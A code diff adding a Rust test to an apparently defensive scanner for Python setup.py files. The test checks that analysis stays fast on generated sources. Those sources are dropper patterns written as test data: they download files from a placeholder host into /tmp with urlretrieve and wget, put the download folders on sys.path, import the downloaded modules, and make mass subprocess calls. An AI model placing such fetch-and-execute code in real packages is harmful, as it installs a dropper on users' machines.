@@ -162,3 +162,31 @@ fn downloads_not_run_and_own_files_stay_below_medium() {
     assert_eq!(worst(&r, EXEC), None, "{:#?}", summary(&r));
     assert_eq!(r.worst(), Some(Severity::Medium), "{:#?}", summary(&r));
 }
+
+/// Many runs, folders and imports cost each a bounded amount: a function with thousands of
+/// process calls on a parameter (whose locality is told once), thousands of distinct imports
+/// after many folders were put on `sys.path` and filled by downloads.
+#[test]
+fn dropper_bookkeeping_stays_bounded_on_hostile_sources() {
+    const BOUND: std::time::Duration = std::time::Duration::from_secs(60);
+    let n = 20_000;
+    let runs = format!(
+        "import subprocess, urllib.request\ndef f(p):\n    urllib.request.urlretrieve('https://x.example.invalid', '/tmp/q')\n{}f(1)\n",
+        "    subprocess.call([p])\n".repeat(n)
+    );
+    let mut imports = String::from("import sys, subprocess, urllib.request\n");
+    for i in 0..100 {
+        imports.push_str(&format!(
+            "subprocess.run(['wget', '-P', '/tmp/d{i}', 'https://x.example.invalid'])\nsys.path.insert(0, '/tmp/e{i}')\nurllib.request.urlretrieve('https://x.example.invalid', '/tmp/e{i}/m{i}.py')\n"
+        ));
+    }
+    for i in 0..n {
+        imports.push_str(&format!("import a{i}\n"));
+    }
+    for (case, src) in [("runs", runs), ("imports", imports)] {
+        let t = std::time::Instant::now();
+        let r = scan("setup.py", &src);
+        assert!(t.elapsed() < BOUND, "{case}: {:?}", t.elapsed());
+        assert!(!r.io_error, "{case}");
+    }
+}
